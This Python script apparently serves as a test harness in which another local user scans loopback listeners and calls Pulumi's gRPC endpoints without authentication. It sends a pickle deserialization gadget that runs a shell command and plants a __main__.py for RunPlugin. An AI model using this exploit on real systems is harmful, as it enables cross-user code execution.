"""Another user of this machine who knows Pulumi's protocols: dials listeners and calls all they may do.

    python stranger.py UID FOLDER [PORT]

With a port it calls that one; without, every listener that appears on the loopback until FOLDER/stop is
there. What it gets done shows as a file in FOLDER, which anybody may write to; FOLDER/answers-UID has what it
was answered.
"""

from __future__ import annotations

import base64
import os
import pickle
import sys
import threading
import time
from pathlib import Path
from typing import Any

import grpc
from google.protobuf import empty_pb2, struct_pb2
from pulumi.runtime.proto import (
    engine_pb2,
    engine_pb2_grpc,
    language_pb2,
    language_pb2_grpc,
    provider_pb2,
    provider_pb2_grpc,
    resource_pb2,
    resource_pb2_grpc,
)

LISTENS = "0A"


class Gadget:
    """Runs a command when it is unpickled."""

    def __init__(self, file: Path) -> None:
        self.file = file

    def __reduce__(self) -> Any:
        return os.system, (f"id > '{self.file}'",)


class Stranger:
    def __init__(self, folder: Path) -> None:
        self.folder = folder
        self.answers = (folder / f"answers-{os.getuid()}").open("a", buffering=1)

    def call(self, port: int) -> None:
        """Everything that could have an effect, each once."""
        with grpc.insecure_channel(f"127.0.0.1:{port}") as channel:
            for name, method, request in self._calls(channel, port):
                try:
                    answer = method(request, timeout=10)
                    if name == "RunPlugin":
                        list(answer)
                    self.answers.write(f"{port} {name} OK\n")
                except grpc.RpcError as error:
                    self.answers.write(f"{port} {name} {error.code().name}\n")  # pyright: ignore

    def _calls(self, channel: grpc.Channel, port: int) -> list[tuple[str, Any, Any]]:
        props = struct_pb2.Struct()
        pickled = pickle.dumps(Gadget(self.folder / f"unpickled-{port}"))
        props.update({"__provider": base64.b64encode(pickled).decode()})
        provider = provider_pb2_grpc.ResourceProviderStub(channel)
        language = language_pb2_grpc.LanguageRuntimeStub(channel)
        engine = engine_pb2_grpc.EngineStub(channel)
        monitor = resource_pb2_grpc.ResourceMonitorStub(channel)
        urn = "urn:pulumi:dev::proj::pulumi-python:dynamic:Thing::x"
        type_, folder = "pulumi-python:dynamic:Thing", str(self.folder)
        thing = resource_pb2.RegisterResourceRequest(type=type_, name=f"x-{port}", custom=True, object=props)
        note = engine_pb2.LogRequest(severity=engine_pb2.WARNING, message="the stranger was here")
        return [
            ("GetPluginInfo", provider.GetPluginInfo, empty_pb2.Empty()),
            ("Check", provider.Check, provider_pb2.CheckRequest(urn=urn, news=props)),
            ("Create", provider.Create, provider_pb2.CreateRequest(urn=urn, properties=props)),
            ("RunPlugin", language.RunPlugin, language_pb2.RunPluginRequest(pwd=folder, program=folder)),
            ("Log", engine.Log, note),
            ("RegisterResource", monitor.RegisterResource, thing),
        ]

    def watch(self) -> None:
        """Call each listener as soon as it is seen."""
        seen = _listeners()
        (self.folder / "ready").touch()
        while not (self.folder / "stop").exists():
            for port in _listeners() - seen:
                seen.add(port)
                threading.Thread(target=self.call, args=(port,), daemon=True).start()
            time.sleep(0.001)


def _listeners() -> set[int]:
    rows = [line.split() for line in Path("/proc/net/tcp").read_text().splitlines()[1:]]
    return {int(row[1].rpartition(":")[2], 16) for row in rows if row[3] == LISTENS}


def main() -> None:
    uid, folder, *port = sys.argv[1:]
    os.setgroups([])
    os.setgid(int(uid))
    os.setuid(int(uid))
    stranger = Stranger(Path(folder))
    (Path(folder) / "__main__.py").write_text("open('ran', 'w').write('x')\n")
    stranger.call(int(port[0])) if port else stranger.watch()


if __name__ == "__main__":
    main()
